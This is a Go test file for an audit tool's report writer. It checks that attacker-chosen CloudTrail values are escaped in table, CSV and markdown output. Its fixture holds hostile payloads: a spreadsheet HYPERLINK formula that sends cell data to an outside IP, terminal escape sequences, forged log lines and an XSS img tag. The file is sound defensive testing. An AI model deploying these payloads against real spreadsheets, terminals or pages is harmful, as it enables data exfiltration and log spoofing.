package audit

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// hostileReport holds one denied request whose values an outsider chose: the object key (shown with
// --show-keys), the principal's session name, and a trail name.
func hostileReport() *Report {
	return &Report{
		Trail:   "s3://hipaa-logs-9c0d1e2f/cloudtrail/\x1b[2K",
		Options: Options{ShowKeys: true},
		Rows: []Row{{
			Time:      day("2026-11-28T10:02:30Z"),
			Principal: "arn:aws:sts::444455556666:assumed-role/x/\x1b]0;pwned\x07",
			Action:    "GetObject",
			Bucket:    "hipaa-data-in-1a2b3c4d",
			Object:    "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"open\")\n2026-11-28T10:03:00Z  forged-row\x1b[1A",
			From:      "203.0.113.9",
			Result:    "denied (AccessDenied)",
			Anomalies: []Anomaly{Denied},
			EventID:   "@SUM(1)",
		}},
	}
}

func TestTheTableEscapesControlCharactersFromTheLogs(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, Write(&buf, hostileReport(), "table"))
	out := buf.String()
	assert.NotContains(t, out, "\x1b", "no escape sequence reaches the terminal")
	assert.NotContains(t, out, "\x07")
	assert.Contains(t, out, `=HYPERLINK("http://203.0.113.9/?"&A1,"open")\n2026-11-28T10:03:00Z  forged-row\x1b[1A`)
	assert.Contains(t, out, `trail: s3://hipaa-logs-9c0d1e2f/cloudtrail/\x1b[2K`)
	assert.Equal(t, 1, strings.Count(out, "forged-row"), "the key's newline does not start a row of its own")
	for _, line := range strings.Split(out, "\n") {
		assert.False(t, strings.HasPrefix(line, "2026-11-28T10:03:00Z"), "a forged line: %q", line)
	}
}

func TestTheCSVNeutralisesFormulasFromTheLogs(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, Write(&buf, hostileReport(), "csv"))
	records, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 2, "the header and one row: the newline in the key is escaped")
	row := records[1]
	assert.Equal(t, `'=HYPERLINK("http://203.0.113.9/?"&A1,"open")\n2026-11-28T10:03:00Z  forged-row\x1b[1A`, row[4])
	assert.Equal(t, `arn:aws:sts::444455556666:assumed-role/x/\x1b]0;pwned\x07`, row[1])
	assert.Equal(t, "'@SUM(1)", row[8])
	for i, cell := range row {
		assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %d starts with a formula character: %q", i, cell)
	}
}

func TestTheMarkdownRendersValuesFromTheLogsAsText(t *testing.T) {
	r := hostileReport()
	r.Rows[0].Object = "<img src=x onerror=alert(1)>|[x](http://203.0.113.9)\n| forged | row |"
	var buf bytes.Buffer
	require.NoError(t, Write(&buf, r, "markdown"))
	out := buf.String()
	assert.NotContains(t, out, "\x1b")
	assert.Contains(t, out, `\<img src=x onerror=alert(1)\>\|\[x\](http://203.0.113.9)\\n\| forged \| row \|`)
	assert.Equal(t, 3, strings.Count(out, "\n|"), "the header, the separator and one row")
	assert.Contains(t, out, `- trail: s3://hipaa-logs-9c0d1e2f/cloudtrail/\\x1b\[2K`)
}
